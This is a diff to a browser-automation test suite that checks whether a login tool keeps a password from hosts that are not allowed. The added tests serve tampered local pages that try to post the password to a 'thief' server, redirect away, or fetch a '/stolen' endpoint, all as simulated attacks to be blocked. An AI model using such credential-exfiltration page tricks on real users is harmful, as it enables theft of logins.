@@ -115,7 +115,12 @@ describe.skipIf(!BROWSER)('by the page', () => {
     rmSync(folder, { recursive: true, force: true, maxRetries: 5 });
   });
 
-  const optionsFor = (origin: string, login: Partial<Login> = {}, hosts: readonly string[] = []) => ({
+  const optionsFor = (
+    origin: string,
+    login: Partial<Login> = {},
+    hosts: readonly string[] = [],
+    timeoutMs = 20_000,
+  ) => ({
     profile: { ...defaultProfile, login: { ...defaultProfile.login, ...login } },
     origin: new URL(origin),
     hosts,
@@ -124,7 +129,7 @@ describe.skipIf(!BROWSER)('by the page', () => {
     tempDir: tmpdir(),
     signal: new AbortController().signal,
     redact: (text: string) => text,
-    timeoutMs: 20_000,
+    timeoutMs,
   });
   const serve = async (page: RequestListener | string, host = '127.0.0.1') => {
     const html = (_: unknown, res: ServerResponse) => void res.setHeader('content-type', 'text/html').end(page);
@@ -133,8 +138,13 @@ describe.skipIf(!BROWSER)('by the page', () => {
     servers.push(server);
     return `http://${host}:${(server.address() as AddressInfo).port}`;
   };
-  const logIn = async (page: RequestListener | string, login?: Partial<Login>, hosts?: readonly string[]) => {
-    const options = optionsFor(await serve(page), login, hosts);
+  const logIn = async (
+    page: RequestListener | string,
+    login?: Partial<Login>,
+    hosts?: readonly string[],
+    timeoutMs?: number,
+  ) => {
+    const options = optionsFor(await serve(page), login, hosts, timeoutMs);
     const proxy = await startBrowserProxy(proxyOptions(options));
     const context = await browser.createBrowserContext({
       proxyServer: proxy.url,
@@ -166,6 +176,8 @@ describe.skipIf(!BROWSER)('by the page', () => {
     expect(captcha.found).toContain('captcha');
     expect(factor.found).toContain('second factor');
   });
+
+  const LETS_IN = onEnter("document.cookie = 'SESSION=from-the-page; path=/'; location.hash = '#/overview'");
 
   test('a tampered page gets the password to no other host, whichever way it tries', async () => {
     const connections: string[] = [];
@@ -203,6 +215,115 @@ describe.skipIf(!BROWSER)('by the page', () => {
     expect(await logInOn(await context.newPage(), proxy, options)).toContain('SESSION=from-the-page');
     expect(missing()).toEqual([]);
     expect(connections).toEqual([]);
+  });
+
+  test.concurrent('the first address of the list that shows the fields is the login page', async () => {
+    const seen: string[] = [];
+    const session = await logIn((req, res) => {
+      seen.push(req.url ?? '');
+      const isLogin = req.url === '/superapp';
+      res.writeHead(isLogin ? 200 : 404, { 'content-type': 'text/html' });
+      res.end(
+        isLogin
+          ? LETS_IN.replace('<input', '<script>if (location.hash !== "#/login") document.body.remove()</script><input')
+          : 'no page',
+      );
+    });
+    expect(session).toBe('SESSION=from-the-page');
+    expect(seen.filter((path) => path !== '/favicon.ico')).toEqual(['/', '/login', '/superapp']);
+  });
+
+  test.concurrent('no address of the list shows the fields: each is told with its reason', async () => {
+    const error = await logIn((_, res) => res.writeHead(404).end('no page'), { page: ['/a', '/b'] }, [], 3_000);
+    expect(error).toMatchObject({ code: 'portal-unreachable', passing: false });
+    expect(error.found).toContain('(/a: HTTP 404; /b: ');
+  });
+
+  test.concurrent('a page of a host that may not have the password gets nothing typed, and is named', async () => {
+    const elsewhere = await serve(FORM, '127.0.0.2');
+    const { host } = new URL(elsewhere);
+    const errors = await Promise.all([
+      logIn((_, res) => res.writeHead(302, { location: elsewhere }).end()),
+      logIn(`<script>location = '${elsewhere}'</script>`),
+      // Even where the host may serve files.
+      logIn((_, res) => res.writeHead(302, { location: elsewhere }).end(), { staticHosts: [host] }),
+    ]);
+    for (const error of errors) {
+      expect(error).toMatchObject({ code: 'portal-unexpected', passing: false });
+      expect(error.found).toContain('nothing was typed');
+      expect(error.message).toContain(host);
+      expect(error.message).toContain('portal-hosts');
+    }
+  });
+
+  test.concurrent('a page of a host in portal-hosts gets the password', async () => {
+    const typed: string[] = [];
+    const portalHost = await serve((req, res) => {
+      if (req.method === 'POST') req.on('data', (chunk) => typed.push(String(chunk)));
+      res.setHeader('content-type', 'text/html').end(
+        onEnter(`
+        fetch('/', { method: 'POST', body: document.getElementById('password').value })
+          .then(() => { location = new URLSearchParams(location.search).get('back') + '/#/overview'; })`),
+      );
+    }, '127.0.0.2');
+    const portal: RequestListener = ({ url, headers }, res) =>
+      url === '/'
+        ? res.writeHead(302, { location: `${portalHost}/?back=http://${headers.host}/home` }).end()
+        : res.setHeader('set-cookie', 'SESSION=from-the-portal').end('welcome');
+    expect(await logIn(portal, {}, [new URL(portalHost).host])).toBe('SESSION=from-the-portal');
+    expect(typed).toEqual([ACCOUNT.password]);
+  });
+
+  test.concurrent('a login that is sent to another host is kept from it, and the host is named', async () => {
+    const stolen: string[] = [];
+    const thief = await serve((req, res) => {
+      stolen.push(`${req.method} ${req.url}`);
+      res.end();
+    }, '127.0.0.2');
+    const error = await logIn(
+      `<form action="${thief}" method="post">${FORM.replace('id=password', 'id=password name=password')}<button>Log in</button></form>`,
+    );
+    expect(error).toMatchObject({ code: 'portal-unexpected', passing: false });
+    expect(error.message).toContain(new URL(thief).host);
+    expect(error.message).toContain('portal-hosts');
+    const told = await logIn(
+      onEnter(`fetch('${thief}').catch(() => { document.body.innerHTML += '<p role=alert>Login failed</p>'; })`),
+    );
+    expect(told).toMatchObject({ code: 'portal-unauthorized' });
+    expect(told.message).toMatch(/Login failed.*127\.0\.0\.2.*portal-hosts/);
+    expect(stolen).toEqual([]);
+  });
+
+  test.concurrent('a static host serves files until something is typed, and is cut off then', async () => {
+    const asked: string[] = [];
+    let cut = false;
+    const files = await serve((req, res) => {
+      asked.push(req.url ?? '');
+      if (req.url === '/open') return void res.on('close', () => (cut = true)).write('data: 1\n\n');
+      res.setHeader('content-type', 'text/javascript').end(`document.body.innerHTML = '${FORM}'`);
+    }, '127.0.0.2');
+    const page = onEnter(`
+      fetch('${files}/stolen', { mode: 'no-cors' }).catch(() => {}).then(() => {
+        document.cookie = 'SESSION=from-the-page; path=/'; location.hash = '#/overview';
+      })`).replace(
+      FORM,
+      `<body><script>new Image().src = '${files}/open'</script><script src="${files}/form.js"></script>`,
+    );
+    expect(await logIn(page, { staticHosts: [new URL(files).host] })).toBe('SESSION=from-the-page');
+    expect(asked.sort()).toEqual(['/form.js', '/open']);
+    expect(cut).toBe(true);
+  });
+
+  test.concurrent("the browser's own error page is no refusal of the portal", async () => {
+    const form = `<form method=post>${FORM}<button>Log in</button></form>`;
+    const error = await logIn((req, res) =>
+      req.method === 'POST' ? res.destroy() : res.setHeader('content-type', 'text/html').end(form),
+    );
+    expect(error).toMatchObject({ code: 'portal-unreachable', passing: false, effect: 'unknown' });
+    expect(error.found).toContain('socket hang up');
+    const nobody = await logIn((_, res) => res.destroy());
+    expect(nobody).toMatchObject({ code: 'portal-unreachable', passing: true });
+    expect(nobody.found).toContain('socket hang up');
   });
 
   test('a cancelled run ends the browser and leaves no folder', async () => {
